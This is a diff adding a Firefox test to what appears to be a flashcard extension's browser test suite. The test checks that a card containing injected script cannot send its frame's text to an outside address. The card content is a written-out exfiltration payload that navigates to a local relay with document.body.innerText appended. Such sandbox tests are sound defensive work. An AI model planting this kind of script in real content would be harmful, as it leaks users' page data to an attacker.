@@ -165,6 +165,21 @@ describe("studying in Firefox", () => {
     await popup.close();
   });
 
+  it("a card that sends its frame to an outside address reaches nothing, and the card page stays", async () => {
+    const relay = `http://127.0.0.1:${port}`;
+    await addDeck("Leaky");
+    await addNote(`moving <script>location.href = '${relay}/leak?' + document.body.innerText;</script>`, "b", "Leaky");
+    const popup = await openPopup();
+    await clickButton(popup, "Leaky");
+    await expect.poll(() => showAnswerButton(popup), { timeout: 15_000 }).toBe(1);
+    // Firefox refuses the navigation where it starts (the popup's frame-src 'self'): no request, no second load.
+    await new Promise((resolve) => setTimeout(resolve, 2000));
+    expect(hits).toEqual([]);
+    await popup.keyboard.press(" ");
+    await expect.poll(() => textOf(popup, "[data-ease='3'] .interval")).toBe("10m");
+    await popup.close();
+  });
+
   it("the card page opened on its own, outside the sandbox, runs no card", async () => {
     const page = await firefox.open("card-page.html");
     await expect
